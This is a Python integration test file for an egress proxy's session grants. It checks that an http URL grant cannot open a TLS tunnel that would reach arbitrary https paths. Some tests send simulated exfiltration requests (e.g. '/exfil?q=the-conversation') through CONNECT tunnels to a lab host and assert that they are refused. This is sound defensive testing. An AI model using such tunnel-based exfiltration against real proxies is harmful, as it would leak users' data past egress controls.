"""Adversarial review of session grants, round 9 (r9a): what a grant for one thing must never be used for.

Each test is an attack through the real proxy (both transports where the case reaches both) or, for the
Redis store, on a real redis-server: a grant used for another scheme, a session's counters outlived by
the session, a request inside a session's tunnel recorded as no session's.
"""

from __future__ import annotations

import contextlib
import socket
import ssl

import pytest
from labnet import PUBLIC_IP, Upstream, self_signed
from proxyproc import both_transports, read_response
from session_client import connect, create, token_file

from policy.hosts import parse_authority
from policy.sessions import Grants, parse_url_grant

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("internal_saw_nothing")]


def _policy(lab, extra: str = "") -> str:
    """Sessions required; CONNECT to the plain-HTTP stand-in allowed (HTTP inside a tunnel)."""
    text = lab.policy_text("session: required\n" + extra)
    return text.replace(f"connect: [{', '.join(map(str, sorted({443, lab.public_tls.port})))}]",
                        f"connect: [{', '.join(map(str, sorted({443, lab.public_tls.port, lab.public.port})))}]")


def _tls_get(sock: socket.socket, lab, path: str) -> bytes:
    context = ssl.create_default_context(cafile=str(lab.cert_file))
    with context.wrap_socket(sock, server_hostname="public.lab.example") as tls:
        tls.sendall(f"GET {path} HTTP/1.1\r\nHost: public.lab.example:{lab.public_tls.port}\r\n"
                    "Connection: close\r\n\r\n".encode())
        return read_response(tls)


# ---- an http URL grant is not an https one ------------------------------------------------------

def test_a_tunnel_that_may_carry_tls_is_granted_by_an_https_url_only() -> None:
    target = parse_authority("public.lab.example:8080", "https")
    http, https = (Grants(urls=(parse_url_grant(f"{s}://public.lab.example:8080/page"),)) for s in ("http", "https"))
    assert http.admit(target, visible=False) and not http.admit(target, visible=False, tls=True)
    assert https.admit(target, visible=False) and https.admit(target, visible=False, tls=True)


@both_transports
def test_an_http_url_grant_opens_no_tls_tunnel_to_its_host_and_port(lab, start_proxy, tmp_path):
    """``http://host:P/page`` grants that exact URL. A passed-through TLS tunnel to host:P would carry
    https to any path there: a scheme the grant never named, and a path egresswall never sees."""
    proxy = start_proxy(_policy(lab), "--admin-token-file", str(token_file(tmp_path)))
    port = lab.public_tls.port
    session = create(proxy.admin_port, {"urls": [f"http://public.lab.example:{port}/page"]})
    before = len(lab.public_tls.requests)
    sock, status, headers, body = connect(proxy, f"public.lab.example:{port}", session)
    with sock:
        if status == 200:
            answer = _tls_get(sock, lab, "/exfil?q=the-conversation")
            assert not answer, answer
    assert (status, headers.get("x-egresswall-rule")) == (403, "session:not-granted"), body
    assert [p for _, p, _ in lab.public_tls.requests[before:]] == []


@both_transports
def test_an_https_url_grant_still_opens_its_tls_tunnel(lab, start_proxy, tmp_path):
    """The README's passed-through tunnel: an https URL grants its host and port (any path there)."""
    proxy = start_proxy(_policy(lab), "--admin-token-file", str(token_file(tmp_path)))
    session = create(proxy.admin_port, {"urls": [f"https://public.lab.example:{lab.public_tls.port}/page"]})
    sock, status, _, body = connect(proxy, f"public.lab.example:{lab.public_tls.port}", session)
    assert status == 200, body
    with sock:
        assert _tls_get(sock, lab, "/page").startswith(b"HTTP/1.1 200")


@pytest.fixture
def tls_on_http_port(tmp_path):
    """A TLS origin on a port the policy lists as plain HTTP (and CONNECT): a tunnel there may carry either."""
    context, cert_file = self_signed(["public.lab.example"], str(tmp_path))
    origin = Upstream(PUBLIC_IP, "tls-on-http-port", tls=context)
    origin.cert_file = cert_file
    yield origin
    origin.close()


@both_transports
def test_an_http_url_grant_lets_http_inside_a_tunnel_to_its_port_but_no_tls(lab, start_proxy, tmp_path,
                                                                             tls_on_http_port):
    """A CONNECT to a plain-HTTP port is admitted for an http URL's host and port, since each request inside
    is held to the exact URL. A ClientHello there instead would be passed through to any https path."""
    port = tls_on_http_port.port
    policy = _policy(lab).replace("  http: [", f"  http: [{port}, ", 1).replace("  connect: [", f"  connect: [{port}, ",
                                                                                 1)
    proxy = start_proxy(policy, "--admin-token-file", str(token_file(tmp_path)))
    session = create(proxy.admin_port, {"urls": [f"http://public.lab.example:{port}/page"]})
    sock, status, _, body = connect(proxy, f"public.lab.example:{port}", session)
    assert status == 200, body  # HTTP inside would be judged request by request
    context = ssl.create_default_context(cafile=str(tls_on_http_port.cert_file))
    answer = b""
    # ssl.SSLError is an OSError: a refused tunnel ends the handshake.
    with sock, contextlib.suppress(OSError), context.wrap_socket(sock, server_hostname="public.lab.example") as tls:
        tls.sendall(f"GET /exfil?q=x HTTP/1.1\r\nHost: public.lab.example:{port}\r\nConnection: close"
                    "\r\n\r\n".encode())
        answer = read_response(tls)
    assert b"hello from" not in answer and tls_on_http_port.requests == []
    refused = [r for r in proxy.decisions() if r.get("rule") == "session:not-granted"]
    assert refused and refused[-1]["session"] == session["id"], proxy.decisions()
